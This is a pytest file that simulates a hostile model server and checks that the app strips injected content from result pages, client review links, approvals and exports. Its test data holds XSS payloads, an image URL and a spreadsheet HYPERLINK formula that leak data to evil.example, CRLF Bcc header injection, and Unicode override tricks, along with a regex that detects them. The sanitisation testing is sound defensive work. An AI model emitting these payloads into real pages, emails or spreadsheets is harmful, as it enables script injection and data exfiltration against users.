"""What a hostile model wrote, after the worker: the result's page, the client's page, the approved version and every downloaded file."""

from __future__ import annotations

import re
from collections.abc import Iterator
from uuid import UUID, uuid4

import pytest
from sqlmodel import select

from coexai_app import db, settings
from coexai_app.agents import exports
from coexai_app.models import Job, JobStatus, Output, OutputStatus
from coexai_app.services import client_links, client_reviews, jobs, outputs, outputs_read
from tests.agents.maya.hostile import READERS, SKILLS, HostileServer, Read, example, says, strings, true_words
from tests.people import People, do
from tests.work import work_all

SAYS = (
    "<script>fetch('https://evil.example')</script>{} [more](javascript:alert(1))",
    "{} ![](http://evil.example/?q=secret) <img src=x onerror=alert(1)>",
    "{} Sales rose to 48,913 units. Zebulon Quarrington agreed.",
    "{}\r\nBcc: all@evil.example\r\nATTACH:https://evil.example/x",
    "\u202e{}\u202c *|EMAIL|* {{{{first_name}}}}",
    "I'm sorry, but I can't help with that request. {}",
    '=HYPERLINK("http://evil.example/?"&A1,"x") {}',
)
TRACES = re.compile(
    r"evil(?!\w)|<\s*script|javascript:|onerror|48,?913|Quarrington|\u202e|[*]\||first_name|can't help|Bcc: \S|[\x00-\x08\x0b-\x1f]", re.I
)


@pytest.fixture
def server(monkeypatch: pytest.MonkeyPatch) -> Iterator[HostileServer]:
    server = HostileServer()
    config = settings.get().model_copy(update={"compatible_base_url": server.url, "compatible_model": "small"})
    monkeypatch.setattr(settings, "get", lambda: config)
    yield server
    server.close()


@pytest.mark.parametrize("slug", SKILLS)
def test_nothing_of_it_is_shown_approved_or_downloaded(people: People, server: HostileServer, slug: str) -> None:
    words = true_words(slug)
    server.answer = says(lambda n: SAYS[n % len(SAYS)].format(words[n % len(words)]))
    agent, _ = SKILLS[slug]
    do(jobs.create, people.bob, agent=agent.slug, capability=slug, data=example(slug), idempotency_key=str(uuid4()))
    work_all()
    with db.reading() as session:
        assert session.exec(select(Job.status)).one() is JobStatus.COMPLETED
        found = session.exec(select(Output.id)).one()
    assert server.requests
    view = do(outputs_read.get, people.bob, output_id=found)
    for text in strings(view.model_dump(mode="json", exclude={"source"})):
        assert not TRACES.search(text), text

    made = do(client_links.create, people.bob, output_id=found, version=view.version, name="Carla Chen")
    token = made.url.rpartition("/")[2]
    with db.transaction() as session:
        shown = client_reviews.look(session, token=token)
        assert len([*strings(shown.model_dump(mode="json"))]) > len(view.parts)
        for text in strings(shown.model_dump(mode="json")):
            assert not TRACES.search(text), text
        client_reviews.approve(session, token=token, name="Carla Chen")
    with db.reading() as session:
        row = session.get_one(Output, UUID(view.id))
        assert row.status is OutputStatus.APPROVED
    for form in exports(agent.slug, slug):
        read = Read()
        READERS[form](do(outputs.export, people.bob, output_id=found, format=form).data, read)
        assert not read.runs
        for text in read.texts:
            assert not TRACES.search(text), (form, text)
